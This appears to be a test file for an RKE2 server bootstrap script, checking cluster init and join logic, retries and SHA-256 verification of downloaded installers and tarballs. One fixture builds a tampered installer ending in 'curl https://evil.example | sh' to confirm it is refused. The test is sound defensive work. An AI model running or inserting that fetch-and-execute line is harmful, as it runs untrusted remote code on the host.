import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { INSTALLER_STUB, NodeSandbox, sha256 } from '../../helpers/node-sandbox';
import { runValidator } from '../../helpers/validators';
import {
  BOOTSTRAP_GIVE_UP_STATUS,
  BOOTSTRAPPED_MARKER,
  UNVERIFIED_ARTIFACT_LINE,
  UNVERIFIED_ARTIFACT_MARKER,
} from '../../../lib/kubernetes/private/server-units';
import { UNVERIFIED_ARTIFACT_METRIC } from '../../../lib/kubernetes/server-metrics';
import { releaseEnvironment } from '../../../lib/kubernetes/private/release-files';

const SCRIPT = 'lib/kubernetes/rke2-bootstrap.sh';
const CA = '-----BEGIN CERTIFICATE-----\nserver-ca\n-----END CERTIFICATE-----\n';
const TOKEN = 'K10e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855::server:s3cret';
const CONFIG = 'token-file: /etc/rancher/rke2/token\n';

const servers = ['10.0.0.10', '10.0.16.10', '10.0.32.10'];

// The release as the download server holds it, and the sums the user data carries for it.
const TARBALL = 'rke2.linux-amd64.tar.gz';
const TARBALL_TEXT = 'the rke2 release tarball\n';
const RELEASE = {
  RKE2_INSTALL_URL: 'https://raw.githubusercontent.com/rancher/rke2/382a8b31a8fd78e376ab6f02c4bb0ec5592aada2/install.sh',
  RKE2_INSTALL_SHA256: sha256(INSTALLER_STUB),
  RKE2_ARTIFACT_URL: `https://github.com/rancher/rke2/releases/download/v1.35.7%2Brke2r1/${TARBALL}`,
  RKE2_ARTIFACT_SHA256: sha256(TARBALL_TEXT),
  RKE2_RELEASE_SUMS_URL: 'https://github.com/rancher/rke2/releases/download/v1.35.7%2Brke2r1/sha256sum-amd64.txt',
};
/** The release's own sums file as RKE2 publishes it: `<sum>  <file>` for each of its files. */
const RELEASE_SUMS = (tarballSum: string) =>
  `${sha256('images')}  rke2-images.linux-amd64.tar.zst\n${tarballSum}  ${TARBALL}\n${sha256('other')}  rke2.linux-amd64\n`;

/** Server `i` of three (or a lone server with `count: 1`), with its parameters in SSM. */
function node(i: number, options: { initialized?: boolean; count?: number; env?: Record<string, string> } = {}): NodeSandbox {
  const count = options.count ?? 3;
  const peers = servers.slice(0, count).filter((_, j) => j !== i);
  const b = new NodeSandbox({
    NODE_ROLE: i === 0 ? 'init' : 'join',
    NODE_IP: servers[i],
    PEER_IPS: peers.join(' '),
    PREVIOUS_SERVER_IPS: i > 0 ? servers[i - 1] : '',
    PEER_WAIT_SECONDS: '60',
    AWS_REGION: 'us-east-1',
    PARAMETER_PREFIX: '/rancher/rke-ha',
    RKE2_VERSION: 'v1.35.7+rke2r1',
    ...RELEASE,
    STATE_ATTEMPTS: '2',
    TURN_WAIT_SECONDS: '120',
    ...options.env,
  });
  b.write('etc/rancher/rke2/config.yaml', CONFIG);
  b.parameter('token', TOKEN);
  for (const name of ['server-ca-cert', 'client-ca-cert']) b.parameter(name, CA.replace('server-ca', name));
  for (const name of ['server-ca-key', 'client-ca-key']) b.parameter(name, `-----BEGIN EC PRIVATE KEY-----\n${name}\n-----END EC PRIVATE KEY-----\n`);
  if (options.initialized) b.parameter('cluster-initialized', 'true');
  b.release({ 'install.sh': INSTALLER_STUB, [TARBALL]: TARBALL_TEXT, 'sha256sum-amd64.txt': RELEASE_SUMS(sha256(TARBALL_TEXT)) });
  boxes.push(b);
  return b;
}

let boxes: NodeSandbox[] = [];
afterEach(() => {
  boxes.forEach((b) => b.dispose());
  boxes = [];
});

const TLS = 'var/lib/rancher/rke2/server/tls';
const MARKER = BOOTSTRAPPED_MARKER.slice(1);
const started = (b: NodeSandbox) => b.calls().includes('systemctl start rke2-server.service');
const installed = (b: NodeSandbox) => b.calls().some((c) => c.startsWith('installer INSTALL_RKE2_TYPE=server INSTALL_RKE2_VERSION=v1.35.7+rke2r1'));
const UNVERIFIED = 'var/lib/rancher/rancher-aws/unverified-artifact';

describe('rke2-bootstrap.sh', () => {
  it('passes shellcheck as committed', () => {
    expect(runValidator('shellcheck', ['--severity=style'], readFileSync(join(__dirname, '../../..', SCRIPT), 'utf8'), 'rke2-bootstrap.sh')).toEqual({
      status: 0,
      output: '',
    });
  });

  it('first deploy, server-0: no cluster and no peer, so it starts a new cluster with the Terraform CAs, written byte for byte', () => {
    const b = node(0);
    const r = b.run({ file: SCRIPT });
    expect(r.status).toBe(0);
    expect(r.output).toContain('no live peer and no cluster yet: starting a new cluster with the Terraform-generated CAs');
    expect(b.read(`${TLS}/server-ca.crt`)).toBe(CA.replace('server-ca', 'server-ca-cert'));
    expect(b.read(`${TLS}/client-ca.key`)).toContain('client-ca-key');
    expect(b.read('etc/rancher/rke2/token')).toBe(TOKEN);
    expect(b.read('etc/rancher/rke2/config.yaml')).toBe(CONFIG);
    expect(installed(b)).toBe(true);
    expect(b.calls().slice(-2)).toEqual(['systemctl enable rke2-server.service', 'systemctl start rke2-server.service']);
    // It probed the peers three times, 10 s apart, before deciding.
    expect(b.slept()).toBe(20);
  });

  it('first deploy, server-0 finding a server that already answers joins it instead (a cluster whose marker was never written)', () => {
    const b = node(0);
    b.write('live', '10.0.32.10\n');
    b.write('members', '10.0.32.10 voting\n');
    const r = b.run({ file: SCRIPT });
    expect(r.status).toBe(0);
    expect(b.read('etc/rancher/rke2/config.yaml')).toBe(`${CONFIG}server: https://10.0.32.10:9345\n`);
    expect(b.exists(`${TLS}/server-ca.key`)).toBe(false);
  });

  it('a replaced server-0 (the cluster was initialized) joins a live peer and never places CAs', () => {
    const b = node(0, { initialized: true });
    b.write('live', '10.0.16.10 30\n');
    const r = b.run({ file: SCRIPT });
    expect(r.status).toBe(0);
    expect(r.output).toContain('the cluster was initialized before: joining it');
    expect(b.read('etc/rancher/rke2/config.yaml')).toBe(`${CONFIG}server: https://10.0.16.10:9345\n`);
    expect(b.exists(`${TLS}/server-ca.crt`)).toBe(false);
    expect(started(b)).toBe(true);
  });

  it('server-2 joins only once server-1 is a voting etcd member (one learner at a time)', () => {
    const b = node(2);
    b.write('live', '10.0.0.10\n10.0.16.10 30\n');
    // server-1 is added as a learner and promoted at second 30.
    b.write('members', '10.0.0.10 voting\n10.0.16.10 voting 30\n');
    const r = b.run({ file: SCRIPT });
    expect(r.status).toBe(0);
    expect(r.output).toContain('the previous server is a voting etcd member: joining');
    expect(b.slept()).toBe(30);
    expect(b.read('etc/rancher/rke2/config.yaml')).toBe(`${CONFIG}server: https://10.0.0.10:9345\n`);
    // The member list is read as the server user with the token's secret, verified against the cluster CA.
    expect(b.calls()).toContain('db/info 10.0.0.10 user = "server:s3cret"');
    expect(b.read('run/rancher-aws/server-ca.crt')).toBe(CA.replace('server-ca', 'server-ca-cert'));
  });

  it('server-1 waits for server-0 to be a voting member, not merely answering /ping', () => {
    const b = node(1);
    b.write('live', '10.0.0.10\n');
    b.write('members', '10.0.0.10 voting 40\n');
    expect(b.run({ file: SCRIPT }).status).toBe(0);
    expect(b.slept()).toBe(40);
  });

  it('the cluster exists but no server answers: installs RKE2, does not start it, explains the restore, gives up for good (78)', () => {
    const b = node(1, { initialized: true });
    b.write('starting', '10.0.0.10\n');
    const r = b.run({ file: SCRIPT });
    expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
    expect(installed(b)).toBe(true);
    expect(b.calls().filter((c) => c.startsWith('systemctl'))).toEqual(['systemctl is-active --quiet rke2-server.service']);
    expect(r.output).toContain('no server answered on 10.0.0.10 10.0.32.10 within 60 s');
    expect(r.output).toContain('RKE2 is installed and NOT started: this node will not start a second cluster.');
    expect(r.output).toMatch(/sbin\/rancher-aws-restore +\(--list to see the snapshots/);
    expect(b.exists(`${TLS}/server-ca.key`)).toBe(false);
    expect(b.exists(MARKER)).toBe(false);
  });

  it('a lone server (nodeCount 1) replaced: nothing to join, so it says so at once instead of waiting 30 minutes', () => {
    const b = node(0, { initialized: true, count: 1, env: { PEER_WAIT_SECONDS: '1800' } });
    const r = b.run({ file: SCRIPT });
    expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
    expect(b.slept()).toBe(0);
    expect(r.output).toContain('no server answered on (no other servers)');
    expect(r.output).toContain('rancher-aws-restore');
    expect(installed(b)).toBe(true);
    expect(started(b)).toBe(false);
  });

  it('a lone server on its first deploy starts a new cluster at once', () => {
    const b = node(0, { count: 1 });
    expect(b.run({ file: SCRIPT }).status).toBe(0);
    expect(b.slept()).toBe(0);
    expect(started(b)).toBe(true);
    expect(b.exists(`${TLS}/server-ca.key`)).toBe(true);
  });

  it('a joining server whose cluster was never initialized gives up without starting anything when server-0 never answers', () => {
    const b = node(2);
    const r = b.run({ file: SCRIPT });
    expect(r.status).toBe(1);
    expect(r.output).toContain('the cluster was never initialized: is the first server (server-0) running?');
    expect(started(b)).toBe(false);
  });

  it('fails closed when SSM cannot say whether the cluster exists: nothing is installed, placed or started', () => {
    const b = node(0, { initialized: true });
    b.failing('cluster-initialized', 99);
    const r = b.run({ file: SCRIPT });
    expect(r.status).not.toBe(0);
    expect(r.output).toContain('refusing to decide whether the cluster exists');
    expect(installed(b)).toBe(false);
    expect(started(b)).toBe(false);
    expect(b.exists(`${TLS}/server-ca.key`)).toBe(false);
  });

  describe('rerun by rancher-aws-bootstrap.service until it succeeds once', () => {
    it('a run stopped by no egress yet (SSM unreachable) exits with a status the unit retries; the rerun once egress works joins', () => {
      const b = node(1, { initialized: true, env: { FETCH_ATTEMPTS: '2' } });
      b.write('live', '10.0.0.10\n');
      b.write('members', '10.0.0.10 voting\n');
      b.write('ssm-down', '');
      const first = b.run({ file: SCRIPT });
      expect(first.status).toBe(1);
      expect(first.status).not.toBe(BOOTSTRAP_GIVE_UP_STATUS);
      expect(b.exists(MARKER)).toBe(false);
      expect(started(b)).toBe(false);
      // The same node, egress now open.
      rmSync(b.path('ssm-down'));
      const second = b.run({ file: SCRIPT });
      expect(second.status).toBe(0);
      expect(started(b)).toBe(true);
      expect(b.exists(MARKER)).toBe(true);
    });

    it('is idempotent: a rerun replaces the server line an earlier run wrote instead of adding a second', () => {
      const b = node(1, { initialized: true });
      b.write('etc/rancher/rke2/config.yaml', `${CONFIG}server: https://10.0.32.10:9345\n`);
      b.write('live', '10.0.0.10\n');
      b.write('members', '10.0.0.10 voting\n');
      expect(b.run({ file: SCRIPT }).status).toBe(0);
      expect(b.read('etc/rancher/rke2/config.yaml')).toBe(`${CONFIG}server: https://10.0.0.10:9345\n`);
    });

    it('a rerun after rke2-server started does nothing but record that the bootstrap is done', () => {
      const b = node(0, { initialized: true });
      b.write('active', 'rke2-server.service\n');
      const r = b.run({ file: SCRIPT });
      expect(r.status).toBe(0);
      expect(r.output).toContain('rke2-server already runs: nothing to do');
      expect(b.calls()).toEqual(['systemctl is-active --quiet rke2-server.service']);
      expect(b.exists(MARKER)).toBe(true);
    });

    it('keeps failing closed while SSM cannot say whether the cluster exists, with a status the unit retries', () => {
      const b = node(0, { initialized: true });
      b.failing('cluster-initialized', 99);
      const r = b.run({ file: SCRIPT });
      expect(r.status).toBe(1);
      expect(installed(b)).toBe(false);
      expect(b.exists(MARKER)).toBe(false);
    });
  });
  describe('installs only what matches its recorded sum', () => {
    it('a good release installs from the checked folder: the installer downloads nothing and checks the tarball against the recorded sum', () => {
      const b = node(0);
      expect(b.run({ file: SCRIPT }).status).toBe(0);
      expect(b.calls().filter((c) => c.startsWith('download'))).toEqual([
        `download ${RELEASE.RKE2_INSTALL_URL}`,
        `download ${RELEASE.RKE2_RELEASE_SUMS_URL}`,
        `download ${RELEASE.RKE2_ARTIFACT_URL}`,
      ]);
      // The folder holds the tarball and a sums file with the recorded sum (not one fetched from the same origin).
      expect(b.calls()).toContain(`artifacts install.sh ${TARBALL} sha256sum-amd64.txt ${RELEASE.RKE2_ARTIFACT_SHA256}  ${TARBALL}`);
      expect(installed(b)).toBe(true);
      expect(b.exists(UNVERIFIED)).toBe(false);
    });

    it.each([
      ['the tarball', TARBALL, RELEASE.RKE2_ARTIFACT_SHA256],
      ['the installer', 'install.sh', RELEASE.RKE2_INSTALL_SHA256],
    ])(
      '%s changed: each run refuses it with one journal line, the marker and the metric, and nothing runs; the third refusal stops the boot for good (78)',
      (_what, file, expected) => {
        const b = node(0, { env: { RESTART_METRIC_NAMESPACE: 'RancherHA/prod-rke-ha' } });
        const tampered = file === TARBALL ? 'a tarball someone changed\n' : `${INSTALLER_STUB}curl https://evil.example | sh\n`;
        b.release({ [file]: tampered });
        const refused = `refusing ${file} of v1.35.7+rke2r1 from ${file === TARBALL ? RELEASE.RKE2_ARTIFACT_URL : RELEASE.RKE2_INSTALL_URL}: its SHA-256 is ${sha256(tampered)}, the recorded sum is ${expected} (${Buffer.byteLength(tampered)} bytes of application/octet-stream;`;
        // The unit runs the bootstrap again after the first two refusals (any status but 78), and stops at the third.
        for (const n of [1, 2]) {
          const again = b.run({ file: SCRIPT });
          expect(again.status).toBe(1);
          expect(again.output).toContain(`${refused} refusal ${n} of 3, the next run downloads it again); nothing was installed`);
        }
        const r = b.run({ file: SCRIPT });
        expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
        const line = `${refused} refusal 3 of 3, giving up); nothing was installed`;
        expect(r.output.split('\n').filter((l) => l.includes('refusing'))).toEqual([`script.sh: ${line}`]);
        expect(b.read(UNVERIFIED)).toBe(`${line}\n`);
        expect(b.calls().filter((c) => c === 'metric RancherHA/prod-rke-ha UnverifiedArtifact 1')).toHaveLength(3);
        // What the alarm and the servers gate tell a person to look for (server-units.ts) is this line, file and metric.
        const quoted = UNVERIFIED_ARTIFACT_LINE.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')
          .replace(/<file>|<version>/g, '\\S+')
          .replace('\\.\\.\\.', '.+');
        expect(line).toMatch(new RegExp(`^${quoted}$`));
        expect(`/${UNVERIFIED}`).toBe(UNVERIFIED_ARTIFACT_MARKER);
        expect(b.calls()).toContain(`metric RancherHA/prod-rke-ha ${UNVERIFIED_ARTIFACT_METRIC} 1`);
        expect(b.calls().some((c) => c.startsWith('installer'))).toBe(false);
        expect(started(b)).toBe(false);
        expect(b.exists(`${TLS}/server-ca.key`)).toBe(false);
        expect(b.exists(MARKER)).toBe(false);
      },
    );

    describe("the release's own sums file, a second record of the tarball's sum", () => {
      it('names another sum: each run refuses with both sums, nothing downloaded or installed; the third refusal stops the boot (78)', () => {
        const b = node(0, { env: { RESTART_METRIC_NAMESPACE: 'RancherHA/prod-rke-ha' } });
        const republished = sha256('a tarball published again under the same tag\n');
        b.release({ 'sha256sum-amd64.txt': RELEASE_SUMS(republished) });
        const refused =
          `refusing ${TARBALL} of v1.35.7+rke2r1: two records disagree: ${republished} for ${TARBALL} of v1.35.7+rke2r1 in ` +
          `${RELEASE.RKE2_RELEASE_SUMS_URL}, the release's own sums, where the recorded sum is ${RELEASE.RKE2_ARTIFACT_SHA256}`;
        for (const n of [1, 2]) {
          const again = b.run({ file: SCRIPT });
          expect(again.status).toBe(1);
          expect(again.output).toContain(`${refused} (refusal ${n} of 3, the next run downloads it again); nothing was installed`);
        }
        const r = b.run({ file: SCRIPT });
        expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
        expect(b.read(UNVERIFIED)).toBe(`${refused} (refusal 3 of 3, giving up); nothing was installed\n`);
        expect(b.calls().filter((c) => c === 'metric RancherHA/prod-rke-ha UnverifiedArtifact 1')).toHaveLength(3);
        expect(b.calls()).not.toContain(`download ${RELEASE.RKE2_ARTIFACT_URL}`);
        expect(b.calls().some((c) => c.startsWith('installer'))).toBe(false);
        expect(started(b)).toBe(false);
      });

      it("names no sum for the tarball (a proxy's page in its place): refused as a disagreement, and a later good run clears the count and the marker", () => {
        const b = node(0);
        b.write('download-body/sha256sum-amd64.txt', '<html>Blocked by policy</html>\n');
        const r = b.run({ file: SCRIPT });
        expect(r.status).toBe(1);
        expect(r.output).toContain(`refusing ${TARBALL} of v1.35.7+rke2r1: two records disagree: no sum for ${TARBALL}`);
        b.remove('download-body/sha256sum-amd64.txt');
        expect(b.run({ file: SCRIPT }).status).toBe(0);
        expect(installed(b)).toBe(true);
        expect(b.exists(UNVERIFIED)).toBe(false);
        expect(b.exists(`${UNVERIFIED}.count/sha256sum-amd64.txt`)).toBe(false);
      });

      it('cannot be downloaded: the run fails after the bounded tries with a status the unit retries, nothing installed', () => {
        const b = node(0);
        b.write('download-errors/sha256sum-amd64.txt', '9');
        const r = b.run({ file: SCRIPT });
        expect(r.status).toBe(1);
        expect(b.calls().filter((c) => c === `download ${RELEASE.RKE2_RELEASE_SUMS_URL}`)).toHaveLength(5);
        expect(r.output).toContain(`could not download ${RELEASE.RKE2_RELEASE_SUMS_URL}, the release's own sums`);
        expect(b.exists(UNVERIFIED)).toBe(false);
        expect(installed(b)).toBe(false);
      });

      it('is named by the user data from upstream only: behind a mirror (an air gap, no second origin) the recorded sum alone', () => {
        const mirror = Object.fromEntries(releaseEnvironment('rke2', 'v1.35.7+rke2r1', undefined, 'https://mirror.internal/rke2/install.sh'));
        expect(mirror.RKE2_RELEASE_SUMS_URL).toBeUndefined();
        const upstream = Object.fromEntries(releaseEnvironment('rke2', 'v1.35.7+rke2r1', 'arm64'));
        expect(upstream.RKE2_RELEASE_SUMS_URL).toBe(RELEASE.RKE2_RELEASE_SUMS_URL.replace('amd64', 'arm64'));
      });
    });

    it('a version the project records no sum for: refused before anything is downloaded', () => {
      const b = node(0, { env: { RKE2_ARTIFACT_SHA256: '' } });
      const r = b.run({ file: SCRIPT });
      expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
      expect(r.output).toContain(`script.sh: refusing ${TARBALL} of v1.35.7+rke2r1: no SHA-256 is recorded for it; nothing was installed`);
      expect(b.calls().filter((c) => c.startsWith('download'))).toEqual([`download ${RELEASE.RKE2_INSTALL_URL}`]);
      expect(b.calls().some((c) => c.startsWith('installer'))).toBe(false);
    });

    it('a sum the operator supplied (versions.releaseSums) reaches the server as a recorded one does: a match installs, another build stops the boot', () => {
      // The release lines as the user data carries them for a release the project does not record; the installer
      // (the pin's, at its commit) is this sandbox's stub.
      const version = 'v1.35.8+rke2r1';
      const lines = Object.fromEntries(releaseEnvironment('rke2', version, undefined, undefined, { [version]: { [TARBALL]: sha256(TARBALL_TEXT) } }));
      expect(lines.RKE2_ARTIFACT_URL).toBe(`https://github.com/rancher/rke2/releases/download/v1.35.8%2Brke2r1/${TARBALL}`);
      const env = { RKE2_VERSION: version, RKE2_ARTIFACT_URL: lines.RKE2_ARTIFACT_URL, RKE2_ARTIFACT_SHA256: lines.RKE2_ARTIFACT_SHA256 };
      const good = node(0, { env });
      expect(good.run({ file: SCRIPT }).status).toBe(0);
      expect(good.calls()).toContain(`artifacts install.sh ${TARBALL} sha256sum-amd64.txt ${sha256(TARBALL_TEXT)}  ${TARBALL}`);
      expect(good.calls().some((c) => c.startsWith(`installer INSTALL_RKE2_TYPE=server INSTALL_RKE2_VERSION=${version}`))).toBe(true);
      const bad = node(0, { env });
      bad.release({ [TARBALL]: 'not the build whose sum was supplied\n' });
      const r = bad.run({ file: SCRIPT });
      expect(r.status).toBe(1);
      expect(r.output).toContain(
        `refusing ${TARBALL} of ${version} from ${lines.RKE2_ARTIFACT_URL}: its SHA-256 is ${sha256('not the build whose sum was supplied\n')}, the recorded sum is ${sha256(TARBALL_TEXT)}`,
      );
      expect(bad.calls().some((c) => c.startsWith('installer'))).toBe(false);
    });

    it('a transfer that fails is tried again (bounded) and the boot goes on', () => {
      const b = node(0);
      b.write(`download-errors/${TARBALL}`, '2');
      const r = b.run({ file: SCRIPT });
      expect(r.status).toBe(0);
      expect(b.calls().filter((c) => c === `download ${RELEASE.RKE2_ARTIFACT_URL}`)).toHaveLength(3);
      expect(installed(b)).toBe(true);
    });

    it('downloads that keep failing stop the run after the bounded tries, with a status the unit retries, nothing installed', () => {
      const b = node(0);
      b.write('download-down', '');
      const r = b.run({ file: SCRIPT });
      expect(r.status).toBe(1);
      expect(b.calls().filter((c) => c.startsWith('download'))).toHaveLength(5);
      expect(r.output).toContain(
        `could not download ${RELEASE.RKE2_INSTALL_URL} (no answer, or slower than 1024 bytes/s for 60 s, or over 1800 s); the next run tries again`,
      );
      expect(b.calls().some((c) => c.startsWith('installer'))).toBe(false);
      expect(b.exists(UNVERIFIED)).toBe(false);
    });

    it('a transfer that stalls is abandoned by the low-speed limit, tried again (bounded), and the run fails with a status the unit retries', () => {
      const b = node(0);
      b.write(`download-stall/${TARBALL}`, '');
      const r = b.run({ file: SCRIPT });
      expect(r.status).toBe(1);
      // Five transfers, each given up after 60 s under 1,024 bytes/s (curl exit 28), 10 s apart.
      expect(b.calls().filter((c) => c.startsWith('stalled'))).toEqual(Array(5).fill(`stalled ${RELEASE.RKE2_ARTIFACT_URL} after 60s`));
      expect(r.output).toContain(`could not download ${RELEASE.RKE2_ARTIFACT_URL} (no answer, or slower than 1024 bytes/s for 60 s, or over 1800 s)`);
      // The install comes before the peer probes: the clock is the five stalls and the four pauses between them.
      expect(b.slept()).toBe(5 * 60 + 4 * 10);
      expect(installed(b)).toBe(false);
      expect(b.exists(UNVERIFIED)).toBe(false);
      // The next run, the link flowing again, installs.
      b.remove(`download-stall/${TARBALL}`);
      expect(b.run({ file: SCRIPT }).status).toBe(0);
      expect(installed(b)).toBe(true);
    });

    it("a 200 with a proxy's block page instead of the tarball: refused, described (size, content type, its first words), and the next run that gets the release installs and clears the marker", () => {
      const b = node(0, { env: { RESTART_METRIC_NAMESPACE: 'RancherHA/prod-rke-ha' } });
      const page = '<html>\n<head><title>Access denied by policy</title></head>\n<body>github.com is blocked</body></html>\n';
      b.write(`download-body/${TARBALL}`, page);
      b.write(`download-type/${TARBALL}`, 'text/html; charset=utf-8');
      const r = b.run({ file: SCRIPT });
      expect(r.status).toBe(1);
      expect(r.output).toContain(
        `refusing ${TARBALL} of v1.35.7+rke2r1 from ${RELEASE.RKE2_ARTIFACT_URL}: its SHA-256 is ${sha256(page)}, the recorded sum is ${RELEASE.RKE2_ARTIFACT_SHA256} ` +
          `(${page.length} bytes of text/html; charset=utf-8, beginning "<html> <head><title>Access denied by policy</title></head> <body>github.com is b"; ` +
          'refusal 1 of 3, the next run downloads it again); nothing was installed',
      );
      expect(b.calls()).toContain('metric RancherHA/prod-rke-ha UnverifiedArtifact 1');
      expect(b.exists(UNVERIFIED)).toBe(true);
      expect(installed(b)).toBe(false);
      // The proxy lets the release through: the rerun installs, and the marker and the count of refusals are gone.
      b.remove(`download-body/${TARBALL}`);
      expect(b.run({ file: SCRIPT }).status).toBe(0);
      expect(installed(b)).toBe(true);
      expect(b.exists(UNVERIFIED)).toBe(false);
      expect(b.exists(`${UNVERIFIED}.count/${TARBALL}`)).toBe(false);
    });

    it('an air gap: installer and tarball from the mirror, checked against the same sums', () => {
      const mirror = {
        RKE2_INSTALL_URL: 'https://mirror.internal/rke2/install.sh',
        RKE2_ARTIFACT_URL: `https://mirror.internal/rke2/v1.35.7%2Brke2r1/${TARBALL}`,
        // No second record behind a mirror (releaseEnvironment gives none: the case above).
        RKE2_RELEASE_SUMS_URL: '',
      };
      const good = node(0, { env: mirror });
      expect(good.run({ file: SCRIPT }).status).toBe(0);
      expect(good.calls().filter((c) => c.startsWith('download'))).toEqual([
        `download ${mirror.RKE2_INSTALL_URL}`,
        `download ${mirror.RKE2_ARTIFACT_URL}`,
      ]);
      expect(installed(good)).toBe(true);
      const bad = node(0, { env: mirror });
      bad.release({ [TARBALL]: 'the mirror serves another build\n' });
      const r = bad.run({ file: SCRIPT });
      expect(r.status).toBe(1);
      expect(r.output).toContain(`refusing ${TARBALL} of v1.35.7+rke2r1 from ${mirror.RKE2_ARTIFACT_URL}`);
      expect(installed(bad)).toBe(false);
    });

    it('the RHEL family: the checked installer installs the signed RPMs from the first channel named, no tarball is fetched', () => {
      const b = node(0, { env: { RKE2_INSTALL_METHOD: 'rpm', RKE2_RPM_CHANNELS: 'stable latest' } });
      expect(b.run({ file: SCRIPT }).status).toBe(0);
      expect(b.calls().filter((c) => c.startsWith('download'))).toEqual([`download ${RELEASE.RKE2_INSTALL_URL}`]);
      expect(b.calls().filter((c) => c.startsWith('installer'))).toEqual([
        'installer INSTALL_RKE2_CHANNEL=stable INSTALL_RKE2_METHOD=rpm INSTALL_RKE2_TYPE=server INSTALL_RKE2_VERSION=v1.35.7+rke2r1 ',
      ]);
    });

    it('the RHEL family: a version stable does not carry yet installs from latest', () => {
      // install.sh's do_install_rpm writes the channel's repository and dnf installs rke2-server-<version> from it;
      // a channel without the version fails there (rancher/rke2#5330: the repository answers 404 for a minor not yet
      // in stable). This installer does the same for stable only.
      const installer = `${INSTALLER_STUB}[ "$INSTALL_RKE2_CHANNEL" != stable ] || { echo "No match for argument: rke2-server-1.35.7~rke2r1" >&2; exit 1; }\n`;
      const b = node(0, { env: { RKE2_INSTALL_METHOD: 'rpm', RKE2_RPM_CHANNELS: 'stable latest', RKE2_INSTALL_SHA256: sha256(installer) } });
      b.release({ 'install.sh': installer });
      const r = b.run({ file: SCRIPT });
      expect(r.status).toBe(0);
      expect(
        b
          .calls()
          .filter((c) => c.startsWith('installer'))
          .map((c) => c.split(' ')[1]),
      ).toEqual(['INSTALL_RKE2_CHANNEL=stable', 'INSTALL_RKE2_CHANNEL=latest']);
      expect(r.output).toContain('installing the RKE2 v1.35.7+rke2r1 RPMs from the latest channel');
      expect(started(b)).toBe(true);
    });

    it('the RHEL family: no channel carrying the version fails the run with a status the unit retries, nothing started', () => {
      const installer = `${INSTALLER_STUB}exit 1\n`;
      const b = node(0, { env: { RKE2_INSTALL_METHOD: 'rpm', RKE2_RPM_CHANNELS: 'stable latest', RKE2_INSTALL_SHA256: sha256(installer) } });
      b.release({ 'install.sh': installer });
      const r = b.run({ file: SCRIPT });
      expect(r.status).toBe(1);
      expect(r.output).toContain('no RPM channel of stable latest installed RKE2 v1.35.7+rke2r1; the next run tries again');
      expect(started(b)).toBe(false);
    });

    it('the RHEL family behind closed egress: the verified tarball, rke2-selinux from the image, the files relabelled', () => {
      const b = node(0, { env: { SELINUX_POLICY_FROM_IMAGE: 'true' } });
      b.write('rpms', 'container-selinux\nrke2-selinux\n');
      expect(b.run({ file: SCRIPT }).status).toBe(0);
      expect(b.calls().filter((c) => c.startsWith('download'))).toEqual([
        `download ${RELEASE.RKE2_INSTALL_URL}`,
        `download ${RELEASE.RKE2_RELEASE_SUMS_URL}`,
        `download ${RELEASE.RKE2_ARTIFACT_URL}`,
      ]);
      expect(b.calls()).toContain(`artifacts install.sh ${TARBALL} sha256sum-amd64.txt ${RELEASE.RKE2_ARTIFACT_SHA256}  ${TARBALL}`);
      const installer = b.calls().find((c) => c.startsWith('installer'));
      expect(installer).toBe('installer INSTALL_RKE2_TYPE=server INSTALL_RKE2_VERSION=v1.35.7+rke2r1 ');
      expect(b.calls()).toContain('rpm -q --quiet rke2-selinux');
      expect(b.calls()).toContain(`restorecon -R ${b.path('usr/local/bin/rke2')} /usr/local/lib/systemd/system`);
      expect(started(b)).toBe(true);
    });

    it('the RHEL family behind closed egress, an image without rke2-selinux: refused for good (78) before any download', () => {
      const b = node(0, { env: { SELINUX_POLICY_FROM_IMAGE: 'true' } });
      const r = b.run({ file: SCRIPT });
      expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
      expect(r.output).toContain('rke2-selinux is not installed on this image, and egress is closed without a proxy (proxy.egressOnlyTo)');
      expect(b.calls().filter((c) => c.startsWith('download') || c.startsWith('installer'))).toEqual([]);
    });
  });
});
